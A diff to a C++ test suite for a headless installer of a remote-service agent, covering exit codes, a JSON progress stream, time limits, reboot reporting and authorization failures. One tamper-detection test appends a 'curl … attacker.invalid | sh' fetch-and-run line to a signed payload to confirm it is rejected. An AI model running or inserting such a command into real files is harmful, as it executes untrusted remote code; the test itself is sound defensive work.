@@ -11,13 +11,16 @@
 #include "platform/ServiceManager.h"
 
 #include <gtest/gtest.h>
+#include <nlohmann/json.hpp>
 
 #include <csignal>
+#include <cstring>
 #include <filesystem>
 #include <fstream>
 #include <regex>
 #include <set>
 #include <sstream>
+#include <sys/mount.h>
 #include <sys/socket.h>
 #include <sys/stat.h>
 #include <sys/un.h>
@@ -104,6 +107,7 @@ protected:
     /// folder or in the user's default folder) with their content.
     struct Run {
         int exitStatus = -1;
+        std::string output;
         std::string errors;
         std::set<std::string> logFiles;
         std::string log;
@@ -132,16 +136,18 @@ protected:
     }
 
     /// Runs the bundle's installer headless without a display, as root or as \p user (its home and runtime
-    /// folder /run/<user>), with \p changes to the environment.
+    /// folder /run/<user>), with \p changes to the environment and \p options after "-gui NO".
     static Run runHeadless(const std::string& bundle, const std::string& user = "",
-                           const std::map<std::string, std::string>& changes = {}) {
+                           const std::map<std::string, std::string>& changes = {},
+                           const std::vector<std::string>& options = {}) {
         std::map<std::string, std::string> environment = {
             {"DISPLAY", ""}, {"WAYLAND_DISPLAY", ""}, {"QT_QPA_PLATFORM", ""}, {"LANG", "C.UTF-8"}};
         if (!user.empty())
             environment["HOME"] = environment["XDG_RUNTIME_DIR"] = "/run/" + user;
         for (const auto& [name, value] : changes)
             environment[name] = value;
-        const std::vector<std::string> argv = {bundle + "/Contents/MacOS/QvtRSInstaller", "-gui", "NO"};
+        std::vector<std::string> argv = {bundle + "/Contents/MacOS/QvtRSInstaller", "-gui", "NO"};
+        argv.insert(argv.end(), options.begin(), options.end());
         const auto logs = [&] {
             auto found = logFiles(kLogDir, "QvtRSInstaller");
             found.merge(
@@ -150,14 +156,18 @@ protected:
         };
         const auto before = logs();
         const std::string errors = user.empty() ? "/run/qvt-root-errors" : "/run/" + user + "/errors";
+        const std::string output = errors + ".output";
         fs::remove(errors);
+        fs::remove(output);
         Run result;
         result.exitStatus = testsupport::runAsUser(user.empty() ? "root" : user, [&] {
             const auto ran = testsupport::runProcess(argv, environment, 120);
             std::ofstream(errors) << ran.errors;
+            std::ofstream(output) << ran.output;
             return ran.exitStatus;
         });
         result.errors = readFile(errors);
+        result.output = readFile(output);
         for (const std::string& file : logs())
             if (!before.count(file)) {
                 result.logFiles.insert(file);
@@ -273,7 +283,7 @@ TEST_F(HeadlessFlow, AFailingScriptKeepsThePreviousInstallationAndExitsNonZero) 
     const std::string bad = bundleAt("bad");
     script(bad, "postinstall", "echo 'the new version does not start' >&2\nexit 3\n");
     const auto result = runHeadless(bad);
-    EXPECT_NE(result.exitStatus, 0) << result.log;
+    EXPECT_EQ(result.exitStatus, 1) << "the agent's command failed\n" << result.log;
     EXPECT_EQ(count(result.log, kFailed + "Error Domain=MyInstallerErrorDomain Code=-1 "), 1u) << result.log;
     EXPECT_TRUE(includes(result.log, "/var/log/com.quorvantis.remote"));
     EXPECT_FALSE(includes(result.log, "{LOG_DIR}"));
@@ -295,7 +305,7 @@ TEST_F(HeadlessFlow, ADownloadChangedAfterSigningInstallsNothing) {
     std::ofstream(changed + "/Contents/InstallerPackage/Payload/bin/qvt-remote-service", std::ios::app)
         << "curl -s http://attacker.invalid | sh\n";
     const auto result = runHeadless(changed);
-    EXPECT_NE(result.exitStatus, 0) << result.log;
+    EXPECT_EQ(result.exitStatus, 1) << result.log;
     EXPECT_TRUE(includes(agentLog(), "failed with status 20 (PackageTampered)")) << agentLog();
     EXPECT_EQ(readFile(kService), installed);
     EXPECT_EQ(readFile(kReceipt), receiptBefore);
@@ -349,8 +359,7 @@ TEST_F(HeadlessFlow, TheAgentDyingWhileItWorksIsAFailure) {
     });
     const auto result = runHeadless(bundle);
     killer.join();
-    EXPECT_NE(result.exitStatus, 0) << result.log;
-    EXPECT_LT(result.exitStatus, 128) << "it ended by itself";
+    EXPECT_EQ(result.exitStatus, 4) << "the connection was lost\n" << result.log;
     EXPECT_TRUE(includes(result.log, kFailed + "Error Domain=MyInstallerErrorDomain Code=-2 "));
     EXPECT_TRUE(includes(result.log, "/var/log/com.quorvantis.remote"));
 }
@@ -363,7 +372,7 @@ TEST_F(HeadlessFlow, NeverConnectsToADisplayEvenWhenOneIsConfigured) {
     const auto result = runHeadless(bundle, "", {{"DISPLAY", ":97"}});
     EXPECT_TRUE(startsWithLaunchLine(result.log, bundle)) << result.log;
     EXPECT_FALSE(includes(result.errors, "could not connect to display"));
-    EXPECT_EQ(result.exitStatus, 1) << result.log;
+    EXPECT_EQ(result.exitStatus, 3) << "the agent cannot be installed\n" << result.log;
     expectFailedLeavingNothing(result);
 }
 
@@ -371,6 +380,8 @@ TEST_F(HeadlessFlow, AnUnprivilegedRunWithoutElevationFailsWithoutChangingAnythi
     ASSERT_NE(testsupport::makeSandboxUser("qvtuser"), static_cast<uid_t>(-1));
     const auto result = runHeadless(bundleAt("user"), "qvtuser", {{"PATH", "/nonexistent"}});
     expectFailedLeavingNothing(result);
+    // pkexec is there, but no polkit daemon answers it.
+    EXPECT_EQ(result.exitStatus, 2) << "authorization impossible\n" << result.log;
     // The user may not make the shared log folder, so the run logs into the default folder in its home
     // instead.
     ASSERT_EQ(result.logFiles.size(), 1u) << result.errors;
@@ -392,7 +403,7 @@ TEST_F(HeadlessFlow, ARunThatCannotOpenALogFileLogsToTheConsole) {
         launchText(bundle) + "\\n");
     EXPECT_TRUE(std::regex_search(result.errors, launch)) << result.errors;
     EXPECT_EQ(count(result.errors, kFailed), 1u) << result.errors;
-    EXPECT_EQ(result.exitStatus, 1) << result.errors;
+    EXPECT_EQ(result.exitStatus, 2) << result.errors;
 }
 
 TEST_F(HeadlessFlow, ADesktopUserAnAdministratorAuthorizesGetsTheAgentRunningAsRootAndThePackage) {
@@ -443,6 +454,7 @@ TEST_F(HeadlessFlow, ADesktopUserAnAdministratorRefusesFailsAndLeavesNothingBehi
     const auto result = runHeadless(desktopUserBundle("NO"), "qvtpk");
     EXPECT_TRUE(includes(result.log, ":\tpkexec: the administrator authorization was refused\n"));
     expectFailedLeavingNothing(result);
+    EXPECT_EQ(result.exitStatus, 2) << "authorization refused";
 }
 
 TEST_F(HeadlessFlow, UnderSystemdARootRunInstallsThroughSystemctlAndExitsZero) {
@@ -457,13 +469,180 @@ TEST_F(HeadlessFlow, UnderSystemdARootRunInstallsThroughSystemctlAndExitsZero) {
     EXPECT_FALSE(fs::exists(ServiceManager::pidFilePath(kLabel))) << "no detached daemon was started";
 }
 
-TEST(WindowLaunch, WithoutADisplayTheWindowRunStaysUpOffscreenUntilStopped) {
+/// The JSON objects of a run's progress stream, one per line; a line that is not one fails the test.
+std::vector<nlohmann::json> progressLines(const std::string& output) {
+    std::vector<nlohmann::json> lines;
+    std::istringstream in(output);
+    for (std::string line; std::getline(in, line);) {
+        auto parsed = nlohmann::json::parse(line, nullptr, false);
+        EXPECT_TRUE(parsed.is_object()) << "not a JSON object: " << line;
+        if (parsed.is_object())
+            lines.push_back(std::move(parsed));
+    }
+    return lines;
+}
+
+/// The "phase" of each line, repeated progress lines counted once.
+std::vector<std::string> phases(const std::vector<nlohmann::json>& lines) {
+    std::vector<std::string> seen;
+    for (const auto& line : lines) {
+        const std::string phase = line.value("phase", "");
+        if (seen.empty() || seen.back() != phase || phase != "progress")
+            seen.push_back(phase);
+    }
+    return seen;
+}
+
+TEST_F(HeadlessFlow, TheJsonProgressStreamFollowsARealInstallationPhaseByPhase) {
+    const auto result = runHeadless(bundleAt("json"), "", {}, {"-progress", "json"});
+    ASSERT_EQ(result.exitStatus, 0) << result.log << result.errors;
+    const auto lines = progressLines(result.output);
+    EXPECT_EQ(phases(lines), (std::vector<std::string>{"authorizing", "installing-helper", "connected",
+                                                       "progress", "completed", "exit"}))
+        << result.output;
+    size_t progress = 0;
+    for (const auto& line : lines) {
+        if (line.value("phase", "") != "progress")
+            continue;
+        ++progress;
+        ASSERT_TRUE(line.contains("percent") && line["percent"].is_number()) << line.dump();
+        EXPECT_GE(line["percent"].get<double>(), 0.0);
+        EXPECT_LE(line["percent"].get<double>(), 100.0);
+        EXPECT_TRUE(line.contains("info") && line["info"].is_string()) << line.dump();
+    }
+    EXPECT_GT(progress, 2u);
+    ASSERT_GE(lines.size(), 3u);
+    EXPECT_EQ(lines[2].value("agentVersion", ""), "3.2.0");
+    const auto& completed = lines[lines.size() - 2];
+    EXPECT_EQ(completed.value("status", -1), 0);
+    EXPECT_EQ(completed.value("rebootRequired", true), false);
+    EXPECT_EQ(lines.back().value("exitStatus", -1), 0);
+    EXPECT_EQ(lines.back().value("meaning", ""), "succeeded");
+    // Standard error is no terminal here: no progress bar is drawn into it.
+    EXPECT_FALSE(includes(result.errors, "\r["));
+}
+
+TEST_F(HeadlessFlow, ARestartTheSystemAsksForIsReportedNeverDone) {
+    fs::create_directories("/etc/com.quorvantis.remote");
+    std::ofstream("/etc/com.quorvantis.remote/agent.plist")
+        << testsupport::plistWithStrings({{"RebootCommand", "/usr/bin/touch /run/qvt-rebooted"}});
+    ::unlink("/run/qvt-rebooted");
+    const std::string bundle = bundleAt("reboot");
+    // As a Debian package's maintainer script says a restart is due.
+    script(bundle, "postinstall", "echo '*** System restart required ***' > /run/reboot-required\n");
+    const auto result = runHeadless(bundle, "", {}, {"-progress", "json"});
+    ::unlink("/run/reboot-required");
+    EXPECT_EQ(result.exitStatus, 10) << result.log << result.errors;
+    const auto lines = progressLines(result.output);
+    ASSERT_GE(lines.size(), 2u) << result.output;
+    EXPECT_EQ(lines[lines.size() - 2].value("rebootRequired", false), true) << result.output;
+    EXPECT_EQ(lines.back().value("meaning", ""), "succeeded-reboot-required");
+    EXPECT_TRUE(fs::exists(kService));
+    std::this_thread::sleep_for(std::chrono::milliseconds(300));
+    EXPECT_FALSE(fs::exists("/run/qvt-rebooted")) << "an unattended run never restarts the system";
+    EXPECT_FALSE(includes(agentLog(), "\"Cmd\":\"Reboot\""));
+}
+
+TEST_F(HeadlessFlow, TheTimeLimitEndsARunThatHangsReleasesTheAgentAndSaysSo) {
+    const std::string bundle = bundleAt("hangs");
+    script(bundle, "preinstall", "sleep 60\n");
+    const auto started = std::chrono::steady_clock::now();
+    const auto result = runHeadless(bundle, "", {}, {"-timeout", "2", "-progress", "json"});
+    const auto took = std::chrono::steady_clock::now() - started;
+    EXPECT_EQ(result.exitStatus, 5) << result.log << result.errors;
+    EXPECT_LT(took, std::chrono::seconds(10));
+    EXPECT_TRUE(includes(result.log, "The time limit of 2 seconds has passed before the command completed"));
+    const auto lines = progressLines(result.output);
+    ASSERT_FALSE(lines.empty());
+    EXPECT_EQ(lines.back().value("exitStatus", -1), 5);
+    // The agent is released; it reads "bye" once the script it is running has ended, and finishes or rolls
+    // back the installation on its own.
+    EXPECT_TRUE(std::regex_search(result.log, std::regex("Sending Message: \\{\"Ctrl\":\"bye\"\\}")))
+        << result.log;
+}
+
+TEST_F(HeadlessFlow, AHelperThatNeverAnswersIsAnUnavailableAgent) {
+    // The bundle's helper starts but never listens: the service manager gives up on it and removes it.
+    const std::string bundle = bundleAt("mute");
+    const std::string helper = bundle + "/Contents/Library/LaunchServices/" + kLabel;
+    fs::remove(helper);
+    std::ofstream(helper) << "#!/bin/sh\nexec sleep 60\n";
+    ::chmod(helper.c_str(), 0755);
+    const auto result = runHeadless(bundle);
+    EXPECT_EQ(result.exitStatus, 3) << result.log << result.errors;
+    expectFailedLeavingNothing(result);
+}
+
+TEST_F(HeadlessFlow, WithoutDisplayPolkitOrPkexecAUserRunEndsWithinItsTimeLimit) {
+    ASSERT_NE(testsupport::makeSandboxUser("qvtuser"), static_cast<uid_t>(-1));
+    // No pkexec on this machine: an empty, plain file hides it, in this mount namespace only.
+    for (const char* pkexec : {"/usr/bin/pkexec", "/bin/pkexec"}) {
+        if (!fs::exists(pkexec))
+            continue;
+        std::ofstream("/run/no-pkexec");
+        ASSERT_EQ(::mount("/run/no-pkexec", pkexec, nullptr, MS_BIND, nullptr), 0) << std::strerror(errno);
+    }
+    const auto started = std::chrono::steady_clock::now();
+    const auto result = runHeadless(bundleAt("no-pkexec"), "qvtuser", {}, {"-timeout", "20"});
+    const auto took = std::chrono::steady_clock::now() - started;
+    for (const char* pkexec : {"/usr/bin/pkexec", "/bin/pkexec"})
+        ::umount2(pkexec, MNT_DETACH);
+    EXPECT_EQ(result.exitStatus, 2) << result.log << result.errors;
+    EXPECT_LT(took, std::chrono::seconds(20));
+    expectFailedLeavingNothing(result);
+}
+
+TEST(CommandLine, HelpVersionAndMistakesAnswerAtOnceWithTheirStatus) {
+    const std::string program = kBuildDir + "/QvtRSInstaller.app/Contents/MacOS/QvtRSInstaller";
+    const struct {
+        std::vector<std::string> arguments;
+        int exitStatus;
+        std::string output;
+        std::string errors;
+    } cases[] = {
+        {{"--help"}, 0, "-progress json", ""},
+        {{"-h"}, 0, "Usage: QvtRSInstaller [-gui YES|NO]", ""},
+        {{"-gui", "NO", "--version"}, 0, "QvtRSInstaller 3.2.0  (", ""},
+        {{"--verbose"}, 64, "", "unknown option --verbose\nUsage: QvtRSInstaller "},
+        {{"-gui", "NO", "-timeout", "0"}, 64, "", "-timeout takes a whole number of seconds"},
+        {{"-gui", "NO", "-timeout", "10s"}, 64, "", "-timeout takes a whole number of seconds"},
+        {{"-gui", "NO", "-progress", "xml"}, 64, "", "-progress takes \"json\""},
+        // A value that looks like an option is the key's value, as user defaults read it.
+        {{"-uninstall", "--help", "-gui", "NO", "-progress", "yaml"}, 64, "", "-progress takes"},
+    };
+    for (const auto& c : cases) {
+        std::vector<std::string> argv = {program};
+        argv.insert(argv.end(), c.arguments.begin(), c.arguments.end());
+        const auto result = testsupport::runProcess(argv, {{"DISPLAY", ""}, {"WAYLAND_DISPLAY", ""}}, 10);
+        EXPECT_EQ(result.exitStatus, c.exitStatus) << c.arguments.back() << result.errors;
+        EXPECT_TRUE(includes(result.output, c.output));
+        EXPECT_TRUE(includes(result.errors, c.errors));
+    }
+}
+
+TEST(WindowLaunch, WithoutADisplayTheWindowRunEndsAtOnceWithItsStatusAndTheHint) {
     const std::string bundle = kBuildDir + "/QvtRSInstaller.app";
-    const auto result = testsupport::runProcess(
-        {bundle + "/Contents/MacOS/QvtRSInstaller", "-uninstall", "NO", "-gui", "YES"},
-        {{"DISPLAY", ""}, {"WAYLAND_DISPLAY", ""}, {"QT_QPA_PLATFORM", ""}}, 3);
-    const std::regex launch(kLinePrefix + " " + launchText(bundle) + "\t\n");
-    EXPECT_TRUE(std::regex_search(result.errors, launch)) << result.errors;
-    // It waits for its buttons, so the harness had to stop it.
-    EXPECT_EQ(result.exitStatus, 128 + 9) << result.errors;
+    const struct {
+        std::map<std::string, std::string> environment;
+        std::string why;
+    } cases[] = {
+        {{{"DISPLAY", ""}, {"WAYLAND_DISPLAY", ""}, {"QT_QPA_PLATFORM", ""}},
+         "neither DISPLAY nor WAYLAND_DISPLAY is set"},
+        // A display is named but nobody serves it: Qt's platform plugin cannot connect.
+        {{{"DISPLAY", ":97"}, {"WAYLAND_DISPLAY", ""}, {"QT_QPA_PLATFORM", ""}},
+         "the display cannot be reached (DISPLAY=:97)"},
+    };
+    for (const auto& c : cases) {
+        const auto started = std::chrono::steady_clock::now();
+        const auto result = testsupport::runProcess(
+            {bundle + "/Contents/MacOS/QvtRSInstaller", "-uninstall", "NO", "-gui", "YES"}, c.environment,
+            10);
+        EXPECT_LT(std::chrono::steady_clock::now() - started, std::chrono::seconds(1)) << c.why;
+        EXPECT_EQ(result.exitStatus, 6) << result.errors;
+        EXPECT_EQ(count(result.errors, "QvtRSInstaller: No window can be shown: " + c.why +
+                                           ". For an unattended update without a window, run: "
+                                           "QvtRSInstaller -gui NO\n"),
+                  1u)
+            << result.errors;
+    }
 }
